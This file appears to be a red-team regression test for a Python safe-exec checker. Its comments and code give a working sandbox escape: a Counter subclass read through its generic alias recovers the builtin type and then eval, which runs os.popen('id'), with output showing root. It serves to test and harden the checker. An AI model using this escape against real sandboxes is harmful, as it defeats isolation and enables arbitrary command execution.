# expect: reject unbound
# line: 27
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family G: a program subclass of a library class read through its own generic alias (Q[str].copy, QI = Q[int]; QI.copy): a subscript of a class, and a name bound to a class or its subscript, is judged as the class (the red team's program, ok_11)
# Mechanism: rule unbound refuses Q.copy(P) for a program class Q deriving from 
# collections.Counter, but not Q[str].copy(P): Counter's __class_getitem__ (inherited by Q) makes 
# types.GenericAlias(Q, str), and a GenericAlias forwards every non-dunder attribute read to its 
# origin, so Q[str].copy is Counter.copy, a plain function; called with P (a program class) it runs 
# P.__class__(P): the builtin type. The rule does not follow a read through the subscript of a 
# program class. No dunder name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class Q(collections.Counter):
    pass

T = Q[str].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
